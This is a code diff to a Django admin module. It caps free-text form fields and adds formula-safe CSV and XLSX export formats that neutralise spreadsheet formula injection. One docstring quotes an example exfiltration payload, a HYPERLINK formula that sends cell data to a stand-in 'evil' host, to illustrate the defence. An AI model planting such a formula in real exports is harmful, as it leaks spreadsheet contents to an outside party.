@@ -4,11 +4,14 @@ from __future__ import annotations
 
 from django.contrib.admin.utils import unquote
 from django.core.exceptions import ValidationError
+from django.db import models
 from django.http import Http404
 from import_export.admin import ImportExportMixin
 from import_export.formats import base_formats
+from tablib import Dataset
 
 from accounts.selectors import accounts_visible_to, contacts_visible_to
+from config.limits import FREE_TEXT_MAX_LENGTH
 
 from .selectors import people_visible_to, scope_by_vertical, verticals_visible_to
 
@@ -28,6 +31,12 @@ class VerticalScopedAdmin:
         return scope_by_vertical(
             super().get_queryset(request), request.user, vertical_field=self.vertical_field
         )
+
+    def formfield_for_dbfield(self, db_field, request, **kwargs):
+        if isinstance(db_field, models.TextField) and db_field.max_length is None:
+            # Free text has no column limit; the form says the limit (config.limits).
+            kwargs.setdefault("max_length", FREE_TEXT_MAX_LENGTH)
+        return super().formfield_for_dbfield(db_field, request, **kwargs)
 
     def formfield_for_foreignkey(self, db_field, request, **kwargs):
         model = db_field.related_model
@@ -91,15 +100,49 @@ class VerticalScopedAdmin:
         return super().history_form_view(request, object_id, version_id, extra_context)
 
 
+# A cell starting with one of these is run as a formula by Excel, LibreOffice and Sheets.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_formula(value):
+    """A text cell a spreadsheet would run as a formula, prefixed with ' so it shows as text.
+
+    OWASP's CSV-injection advice: a title like `=HYPERLINK("https://evil/?"&B2)`
+    would otherwise leak the sheet's cells when the exported file is opened.
+    """
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def formula_safe(dataset: Dataset) -> Dataset:
+    return Dataset(
+        *[tuple(neutralise_formula(cell) for cell in row) for row in dataset],
+        headers=dataset.headers,
+        title=dataset.title,
+    )
+
+
+class FormulaSafeCSV(base_formats.CSV):
+    def export_data(self, dataset, **kwargs):
+        return super().export_data(formula_safe(dataset), **kwargs)
+
+
+class FormulaSafeXLSX(base_formats.XLSX):
+    def export_data(self, dataset, **kwargs):
+        return super().export_data(formula_safe(dataset), **kwargs)
+
+
 class RoleImportExportMixin(ImportExportMixin):
     """django-import-export in the admin, allowed by the role's model permissions.
 
     Importing creates and updates rows, so it needs both add and change;
     exporting needs view. What is exported is the scoped changelist.
-    Large customers' old systems hand over CSV or Excel files.
+    Large customers' old systems hand over CSV or Excel files. Every export
+    goes through the formula-safe formats (see neutralise_formula).
     """
 
-    formats = [base_formats.CSV, base_formats.XLSX]
+    formats = [FormulaSafeCSV, FormulaSafeXLSX]
     import_formats = formats
     export_formats = formats
 
